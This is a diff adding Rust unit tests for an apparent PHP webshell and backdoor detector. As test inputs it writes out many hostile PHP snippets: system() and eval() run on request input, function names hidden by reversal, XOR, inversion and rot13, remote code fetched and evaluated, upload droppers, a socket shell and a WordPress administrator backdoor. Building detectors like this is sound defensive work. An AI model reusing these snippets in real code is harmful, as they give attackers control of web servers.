@@ -1,0 +1,323 @@
+use super::super::php::tokenize;
+use super::*;
+
+fn sinks(src: &str) -> Vec<(Why, Danger)> {
+    let t = tokenize(src.as_bytes(), usize::MAX);
+    let mut v: Vec<(Why, Danger)> = analyze(&t, Script::default()).into_iter().map(|s| (s.why, s.danger)).collect();
+    v.sort();
+    v.dedup();
+    v
+}
+
+#[test]
+fn request_data_into_code_and_shell() {
+    assert_eq!(sinks("<?php $c = $_POST['c']; system($c);"), [(Why::ShellFromInput, Danger::Critical)]);
+    assert_eq!(sinks("<?php $x = $_REQUEST; eval($x['a']);"), [(Why::CodeFromInput, Danger::Critical)]);
+    assert_eq!(sinks("<?php eval('?>'.$_COOKIE['p']);"), [(Why::CodeFromInput, Danger::Critical)]);
+    assert_eq!(sinks("<?php $h = getallheaders(); assert($h['X-Run']);"), [(Why::CodeFromInput, Danger::Critical)]);
+    assert_eq!(sinks("<?php echo `{$_GET['c']}`;"), [(Why::ShellFromInput, Danger::Critical)]);
+    assert_eq!(sinks("<?php $_GET['f']($_GET['a']);"), [(Why::DynamicCallFromInput, Danger::Critical)]);
+}
+
+#[test]
+fn hidden_names_are_resolved() {
+    let s = "<?php $s = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = $s{0}.$s{18}.$s{18}.$s{4}.$s{17}.$s{19}; $f($_POST['z']);";
+    assert_eq!(
+        sinks(s),
+        [
+            (Why::CodeFromInput, Danger::Critical),
+            (Why::HiddenFunctionName, Danger::High),
+            (Why::HiddenFunctionName, Danger::Critical)
+        ]
+    );
+    let s = "<?php $k = strrev('metsys'); $k($_GET['c']);";
+    assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
+    let s = "<?php $f = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; @$f(base64_decode($_REQUEST['x']));";
+    assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(s));
+}
+
+#[test]
+fn a_later_assignment_reaches_an_earlier_use() {
+    // In a loop, the name is set after the call that uses it: the second pass sees it.
+    let s = "<?php while (true) { if ($n) { $f($_POST['x']); } $f = 'sys' . 'tem'; $n = 1; }";
+    assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
+    let s = "<?php function run() { eval($c); } $c = $_COOKIE['c']; run();";
+    assert_eq!(sinks(s), [(Why::EvalOfVariable, Danger::Low)], "functions have their own variables");
+    let s = "<?php function run() { global $c; eval($c); } $c = $_COOKIE['c']; run();";
+    assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)], "unless they are declared global");
+    let s = "<?php $x = 'echo 1;'; eval($x); $x = $_POST['x'];";
+    assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)]);
+}
+
+#[test]
+fn droppers_and_fetchers() {
+    let s = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);";
+    assert_eq!(sinks(s), [(Why::UploadDropper, Danger::High)]);
+    let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
+    assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
+    assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
+}
+
+#[test]
+fn data_is_followed_through_functions_closures_properties_and_lists() {
+    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+    crit("<?php run($_POST['t']); function run($c) { return system($c); }", Why::ShellFromInput);
+    crit("<?php function a($x) { b($x); } function b($y) { eval($y); } a($_GET['x']);", Why::CodeFromInput);
+    crit("<?php $r = function ($x) { eval($x); }; $r($_REQUEST['c']);", Why::CodeFromInput);
+    crit("<?php array_map(function ($x) { assert($x); }, $_POST);", Why::CodeFromInput);
+    crit(
+        "<?php class A { function __destruct() { eval($this->d); } } $o = new A; $o->d = $_POST['d'];",
+        Why::CodeFromInput,
+    );
+    crit("<?php list($f, $a) = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
+    crit("<?php [$f, $a] = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
+    crit("<?php $a = 'b'; $$a = 'system'; $b($_GET['c']);", Why::ShellFromInput);
+    crit(
+        "<?php $k = \"\\x13\\x19\\x13\\x14\\x06\\x0c\" ^ \"\\x60\\x60\\x60\\x60\\x63\\x61\"; $k($_GET['c']);",
+        Why::ShellFromInput,
+    );
+    crit("<?php $f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['c']);", Why::ShellFromInput);
+    crit("<?php $f = strtr('qjqlzk', 'qjlzk', 'sytem'); $f($_GET['c']);", Why::ShellFromInput);
+    crit("<?php include 'data://text/plain;base64,' . $_POST['p'];", Why::CodeFromInput);
+    crit("<?php include 'php://input';", Why::CodeFromInput);
+    crit("<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');", Why::EvalOfDecoded);
+    crit("<?php $s = fsockopen($_GET['h'], 80); proc_open('/bin/sh', [0 => $s, 1 => $s], $p);", Why::ShellFromInput);
+    crit(
+        "<?php wp_insert_user(['user_login' => 'x', 'user_pass' => $_GET['p'], 'role' => 'administrator']);",
+        Why::AdminBackdoor,
+    );
+    assert_eq!(sinks("<?php include 'zip://' . __DIR__ . '/logo.jpg#x.php';"), [(Why::IncludeOfData, Danger::High)]);
+    assert_eq!(sinks("<?php $o = new SplFileObject($_POST['f'], 'w');"), [(Why::UploadDropper, Danger::High)]);
+    assert_eq!(sinks("<?php mail($_POST['to'], 's', 'b', $_POST['h']);"), [(Why::MailFromInput, Danger::High)]);
+}
+
+#[test]
+fn ordinary_functions_templates_and_mail_are_quiet() {
+    assert!(sinks("<?php function run($c) { return esc_html($c); } run($_POST['t']);").is_empty());
+    assert!(sinks("<?php function t($f) { include $f; } t(__DIR__ . '/tpl.php');").is_empty());
+    assert!(sinks("<?php $this->name = $_POST['n']; echo $this->name;").is_empty());
+    assert!(sinks("<?php mail(get_option('admin_email'), $_POST['subject'], $_POST['message']);").is_empty());
+    assert!(sinks("<?php wp_insert_user(['user_login' => $_POST['u'], 'role' => 'subscriber']);").is_empty());
+    // A template engine compiling to PHP through data: is like eval of a variable (weak).
+    assert_eq!(
+        sinks("<?php return include('data://text/plain,' . urlencode($php));"),
+        [(Why::EvalOfVariable, Danger::Low)]
+    );
+}
+
+#[test]
+fn names_rebuilt_step_by_step_are_followed() {
+    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+    // One variable reused: the value in the order of the text.
+    crit("<?php $_ = 's'.'s'.'e'.'r'; $_ = 'a'.$_.'t'; $_(${'_PO'.'ST'}['x']);", Why::CodeFromInput);
+    // Inverted bytes, letters counted up, and an index computed from comparisons.
+    crit("<?php $k = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $k($_GET['c']);", Why::ShellFromInput);
+    crit("<?php $a = 'r'; $a++; $f = $a . 'y' . $a . 'tem'; $f($_GET['c']);", Why::ShellFromInput);
+    crit(
+        "<?php $i = (2 > 1) + (2 > 1); $t = 'xxs'; $u = 'ystem'; $f = $t[$i] . $u; $f($_GET['c']);",
+        Why::ShellFromInput,
+    );
+    // Pieces appended one at a time.
+    crit(
+        "<?php $t = table(); $n = ''; $n .= $t{0}; $n .= $t{1}; $n .= $t{2}; $n($_GET['c']);",
+        Why::HiddenFunctionName,
+    );
+    // The file's variables reached from a function, by `global` and by `${'GLOBALS'}`.
+    crit(
+        "<?php $a = 'base64_decode'; function dec($s) { global $a; return gzinflate($a($s)); } eval(dec('eJwrAQA='));",
+        Why::EvalOfDecoded,
+    );
+    crit(
+        "<?php $n = 'base64_'.'decode'; function d($s) { return ${'GLOBALS'}['n']($s); } eval(d('ZWNobyAxOw=='));",
+        Why::EvalOfDecoded,
+    );
+}
+
+#[test]
+fn code_in_strings_objects_and_callbacks_is_read() {
+    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+    assert_eq!(
+        sinks("<?php eval(\"move_uploaded_file(\\$_FILES['f']['tmp_name'], \\$_FILES['f']['name']);\");"),
+        [(Why::UploadDropper, Danger::High)]
+    );
+    crit("<?php $f = create_function('$x', 'system($x);'); $f($_GET['c']);", Why::ShellFromInput);
+    crit("<?php assert('eval($_POST[1]);');", Why::CodeFromInput);
+    crit("<?php array_intersect_uassoc([$_REQUEST['c'] => 1], [1], 'assert');", Why::CodeFromInput);
+    crit(
+        "<?php mb_ereg_replace_callback('.+', function ($m) { return eval($m[0]); }, $_POST['c']);",
+        Why::CodeFromInput,
+    );
+    crit("<?php filter_var($_POST['c'], FILTER_CALLBACK, ['options' => 'assert']);", Why::CodeFromInput);
+    crit(
+        "<?php class K { public $d; function __destruct() { eval($this->d); } } unserialize($_GET['o']);",
+        Why::CodeFromInput,
+    );
+    crit(
+        "<?php function unpack_it($s, $k) { return $s ^ $k; } eval(unpack_it($blob, $_GET['k']));",
+        Why::CodeFromInput,
+    );
+}
+
+#[test]
+fn glue_functions_fetched_matches_and_hidden_names_as_values() {
+    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+    // A helper that only glues its parameters, fed table lookups.
+    crit(
+        "<?php $t = 'tesyxm'; function g($a, $b, $c) { return $a . '' . $b . $c; } $f = g($t[2], $t[3], $t[2]) . g($t[0], $t[1], $t[5]); $f($_GET['c']);",
+        Why::ShellFromInput,
+    );
+    // Code fetched, cut out by a pattern, and written after a PHP open tag.
+    assert!(sinks(
+        "<?php $r = curl_exec($ch); preg_match('#<c>(.*)</c>#s', $r, $m); $h = fopen($n, 'w'); fwrite($h, \"<?php\\n$m[1]\");"
+    )
+    .contains(&(Why::UploadDropper, Danger::High)));
+    // A decoded dangerous name is a finding wherever it goes (here, a method's callback).
+    assert!(
+        sinks("<?php $rows = $q->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));")
+            .contains(&(Why::HiddenFunctionName, Danger::High))
+    );
+}
+
+#[test]
+fn arrays_of_pieces_and_scripts_written_from_text() {
+    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+    crit("<?php $p = explode('.', 'x.ass.y.er.t'); $f = $p[1] . $p[3] . $p[4]; $f($_POST['c']);", Why::CodeFromInput);
+    crit("<?php $m = array('k' => 'sys', 'j' => 'tem'); $f = $m['k'] . $m['j']; $f($_POST['c']);", Why::ShellFromInput);
+    crit("<?php $f = implode('', array_reverse(str_split('metsys'))); $f($_GET['c']);", Why::ShellFromInput);
+    crit("<?php $i['j'] = 'assert'; $i['j']($_POST['x']);", Why::CodeFromInput);
+    crit("<?php $it['w'] = 'assert'; $all[] = $it; $all[0]['w']($_POST['x']);", Why::CodeFromInput);
+    crit("<?php $o = '_POST'; $v = 'x'; $f = 'assert'; $f($$o[$v]);", Why::CodeFromInput);
+    assert!(
+        sinks("<?php $r = new ReflectionFunction('assert'); $r->invoke($x);")
+            .contains(&(Why::HiddenFunctionName, Danger::High))
+    );
+    assert!(sinks("<?php $m = []; $m['f'] = 'strtoupper'; $m['g'] = 'system'; echo $m['f']($_GET['x']);").is_empty());
+    // `Array` joined to text gives letters.
+    crit("<?php $a = []; $a = $a . ''; $f = $a[3] . 'sser' . 't'; $f($_GET['c']);", Why::CodeFromInput);
+    assert!(
+        sinks("<?php fputs(fopen('x.php', 'w'), '<?php eval($_POST[1]); ?>');")
+            .contains(&(Why::UploadDropper, Danger::High))
+    );
+    assert!(
+        sinks("<?php $f = create_function('$a', 'return assert($a);'); $m->addServer('h', 1, $f);")
+            .contains(&(Why::HiddenFunctionName, Danger::High))
+    );
+    // Near misses: a settings file written from text, a list joined for display.
+    assert!(sinks("<?php file_put_contents('cfg.php', '<?php return array(\\'debug\\' => false);');").is_empty());
+    assert!(sinks("<?php $l = explode(',', 'a,b,c'); echo implode(' | ', $l); echo $l[0] . $l[1] . $l[2];").is_empty());
+}
+
+#[test]
+fn method_callbacks_bare_names_pieces_and_comments() {
+    let crit = |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+    let xsl = "<?php $x = '<xsl:value-of select=\"php:function(\\'assert\\', string(.))\"/>'; $p = new XSLTProcessor(); $p->registerPHPFunctions();";
+    assert!(sinks(xsl).contains(&(Why::HiddenFunctionName, Danger::High)), "{:?}", sinks(xsl));
+    crit("<?php $db = new SQLite3('x'); $db->createFunction('f', $_REQUEST['e']);", Why::DynamicCallFromInput);
+    assert!(
+        sinks("<?php $a = new ArrayObject([$_POST['p']]); $a->uasort('assert');")
+            .contains(&(Why::HiddenFunctionName, Danger::Medium))
+    );
+    crit("<?php $f = passthru; $f($_POST['c']);", Why::ShellFromInput);
+    crit("<?php $m = 'sysatem'; $f = substr($m, 0, 3) . substr($m, 4); $f($_GET['c']);", Why::ShellFromInput);
+    crit(
+        "<?php function ff($s) { return eval($s); } filter_var($_POST['a'], FILTER_CALLBACK, ['options' => 'ff']);",
+        Why::CodeFromInput,
+    );
+    crit("<?php $c = (new ReflectionClass('T'))->getDocComment(); eval(substr($c, 7, 20));", Why::EvalOfDecoded);
+    crit("<?php $k = 'cmd'; foreach ($_POST as ${$k}) {} system($cmd);", Why::ShellFromInput);
+    crit(
+        "<?php ${'GLOBALS'}['k'] = 'sys' . 'tem'; function r() { ${'GLOBALS'}['k']($_GET['c']); }",
+        Why::ShellFromInput,
+    );
+    // A decoder of the file's own that shifts characters.
+    crit(
+        "<?php function un($s) { $r = ''; for ($i = 0; $i < strlen($s); $i++) { $r .= chr(ord($s[$i]) - 1); } return $r; } eval(un('fdip!2<'));",
+        Why::EvalOfDecoded,
+    );
+    assert!(
+        sinks(
+            "<?php $c = chr(65 + $i); file_put_contents($dir . '/x.php', '<?php return ' . var_export($c, true) . ';');"
+        )
+        .is_empty()
+    );
+    crit("<?php (@$_ = 'sys' . 'tem') . @$_($_GET['c']);", Why::ShellFromInput);
+    let mut bare = b"<?php $x = ~".to_vec();
+    bare.extend(b"system".iter().map(|c| !c));
+    bare.extend_from_slice(b"; $x($_POST['c']);");
+    let t = tokenize(&bare, usize::MAX);
+    assert!(
+        analyze(&t, Script::default()).iter().any(|s| s.why == Why::ShellFromInput && s.danger == Danger::Critical)
+    );
+    crit(
+        "<?php function go($f, $a) { call_user_func_array($f, $a); } go('assert', [$_POST['a']]);",
+        Why::CodeFromInput,
+    );
+    assert!(
+        sinks("<?php function go2($f) { $f($_POST['x']); } go2(assert);")
+            .contains(&(Why::HiddenFunctionName, Danger::High))
+    );
+    assert!(sinks("<?php function ap($f, $x) { return $f($x); } echo ap('strtoupper', $_GET['q']);").is_empty());
+    let runner = "<?php function run($c) { if (function_exists('exec')) { exec($c, $o); } elseif (function_exists('shell_exec')) { $o = shell_exec($c); } else { system($c); } return $o; }";
+    assert!(sinks(runner).contains(&(Why::ShellFromInput, Danger::High)));
+    assert!(sinks("<?php function v($bin) { exec($bin . ' --version', $o); return $o; }").is_empty());
+    // Near misses: a sort with a method, a word that is only a constant, a comment read.
+    assert!(sinks("<?php $a->uasort([$this, 'cmp']); $s = SYSTEM_PATH; $d = $r->getDocComment(); echo $d;").is_empty());
+}
+
+#[test]
+fn command_line_scripts_streams_and_callables_are_quiet() {
+    let t = tokenize(b"#!/usr/bin/env php\n<?php $c = $_SERVER['argv'][1]; exec($c);", usize::MAX);
+    assert!(analyze(&t, Script { command_line: true }).is_empty());
+    assert_eq!(sinks("<?php $c = $_SERVER['argv'][1]; exec($c);"), [(Why::ShellFromInput, Danger::Critical)]);
+    let checked = "<?php if (php_sapi_name() != 'cli') { exit; } $c = $_SERVER['argv'][1]; exec($c);";
+    assert!(sinks(checked).is_empty());
+    // `/e` with a fixed replacement (old code) is weak; with hidden code in it, it is not.
+    assert_eq!(
+        sinks("<?php $s = preg_replace('/(x)/e', 'strtoupper(\\'$1\\')', $s);"),
+        [(Why::PregReplaceEval, Danger::Low)]
+    );
+    assert!(
+        sinks("<?php preg_replace('/x/e', 'eval(base64_decode(\\'ZWNobyAx\\'))', 'x');")
+            .contains(&(Why::EvalOfDecoded, Danger::Critical))
+    );
+    assert!(sinks("<?php file_put_contents('php://stdout', \"[$t] $_SERVER[REQUEST_URI]\\n\");").is_empty());
+    assert!(sinks("<?php $parts = array_map(rawurldecode(...), $raw);").is_empty());
+    assert!(sinks("<?php $f = __DIR__ . '/lib/' . strtr($class, '\\\\', '/') . '.php'; require $f;").is_empty());
+}
+
+#[test]
+fn code_in_literals_nested_deep_stays_bounded() {
+    // Brackets inside code inside brackets: one depth bound for the whole stack.
+    let inner = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
+    let src = format!("<?php $a = {}eval('{inner}'){};", "[".repeat(95), "]".repeat(95));
+    let _ = sinks(&src);
+    // Literals in literals: a few levels are read, the rest are not.
+    let mut code = "system($_GET[1]);".to_owned();
+    for _ in 0..8 {
+        code = format!("eval('{}');", code.replace('\\', "\\\\").replace('\'', "\\'"));
+    }
+    let _ = sinks(&format!("<?php {code}"));
+}
+
+#[test]
+fn near_misses_of_rebuilt_names_are_quiet() {
+    assert!(sinks("<?php $f = 'strtolower'; $f = 'trim'; echo $f($_GET['x']);").is_empty());
+    // A plain name in a variable is not hidden (a library picking its replace function).
+    assert!(sinks("<?php $replace = 'preg_replace'; $r = $replace('/a/u', 'b', $s);").is_empty());
+    assert!(sinks("<?php $v = eval('return 1 + 2;');").is_empty());
+    assert!(sinks("<?php function dec($s) { return base64_decode($s); } echo dec($x);").is_empty());
+    assert!(sinks("<?php $n = 1 + 2; $c = 'abcd'; $c++; echo $c[$n];").is_empty());
+    assert!(sinks("<?php class P { public $d; } $p = unserialize($_COOKIE['prefs']); echo $p->d;").is_empty());
+    assert!(sinks("<?php array_udiff($a, $b, 'strcmp'); usort($list, [$this, 'cmp']);").is_empty());
+}
+
+#[test]
+fn ordinary_code_is_quiet() {
+    assert!(
+        sinks("<?php function f($a) { return call_user_func($a, 1); } $x = $_GET['p']; echo esc_html($x);").is_empty()
+    );
+    assert!(sinks("<?php require __DIR__ . '/vendor/autoload.php'; $cb = array($this, 'run'); $cb();").is_empty());
+    assert!(sinks("<?php $r = preg_replace('/\\s+/e', ' ', $s);").iter().all(|(w, _)| *w == Why::PregReplaceEval));
+    assert!(sinks("<?php $r = preg_replace('/\\s+/i', ' ', $s); assert($x > 0);").is_empty());
+    assert!(sinks("<?php foreach ($_POST as $k => $v) { update_option($k, sanitize_text_field($v)); }").is_empty());
+}
